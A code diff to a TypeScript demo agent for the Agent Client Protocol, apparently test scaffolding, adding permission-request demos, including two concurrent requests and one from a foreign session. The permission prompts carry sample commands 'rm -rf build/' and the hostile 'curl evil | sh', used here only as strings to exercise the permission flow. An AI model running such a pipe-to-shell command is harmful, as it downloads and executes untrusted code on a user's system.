@@ -6,6 +6,7 @@ import { randomUUID } from "node:crypto";
 import * as acp from "@agentclientprotocol/sdk";
 import { DemoSessionStore, demoDataDir, demoSessionsDir } from "./store.js";
 import { longMarkdown, NO_AGENT_NOTICE } from "./texts.js";
+import { askPermission } from "./permissions.js";
 
 const CHUNK_DELAY_MS = 25;
 const SLOW_TOTAL_MS = 30_000;
@@ -120,22 +121,19 @@ async function respond(turn: Turn, text: string, earlier: string[]): Promise<acp
       await say(turn, "Both tools ran.");
       return "end_turn";
     case "demo:permission": {
-      const toolCall = { toolCallId: "perm-1", title: "Run `rm -rf build/`", kind: "execute" as const, status: "pending" as const, rawInput: { command: "rm -rf build/" } };
-      await update(turn.client, turn.sessionId, { sessionUpdate: "tool_call", ...toolCall });
-      const answer = await turn.client.request(acp.methods.client.session.requestPermission, {
-        sessionId: turn.sessionId,
-        toolCall,
-        options: [
-          { optionId: "allow-once", name: "Allow once", kind: "allow_once" },
-          { optionId: "allow-always", name: "Always allow", kind: "allow_always" },
-          { optionId: "reject", name: "Reject", kind: "reject_once" },
-        ],
-      }) as acp.RequestPermissionResponse;
-      const chosen = answer.outcome.outcome === "selected" ? answer.outcome.optionId : "cancelled";
-      const allowed = chosen.startsWith("allow");
-      await update(turn.client, turn.sessionId, { sessionUpdate: "tool_call_update", toolCallId: "perm-1", status: allowed ? "completed" : "failed" });
+      const chosen = await askPermission(turn.client, turn.sessionId, "perm-1", "rm -rf build/");
       await say(turn, `Permission answer: ${chosen}.`);
       return chosen === "cancelled" ? "cancelled" : "end_turn";
+    }
+    case "demo:two-permissions": {
+      const answers = await Promise.all([askPermission(turn.client, turn.sessionId, "perm-a", "make a"), askPermission(turn.client, turn.sessionId, "perm-b", "make b")]);
+      await say(turn, `Permission answers: a=${answers[0]}, b=${answers[1]}.`);
+      return "end_turn";
+    }
+    case "demo:foreign-permission": {
+      const chosen = await askPermission(turn.client, turn.sessionId, "perm-x", "curl evil | sh", "another-session");
+      await say(turn, `Foreign permission answer: ${chosen}.`);
+      return "end_turn";
     }
     case "demo:long":
       await say(turn, longMarkdown(), 8);
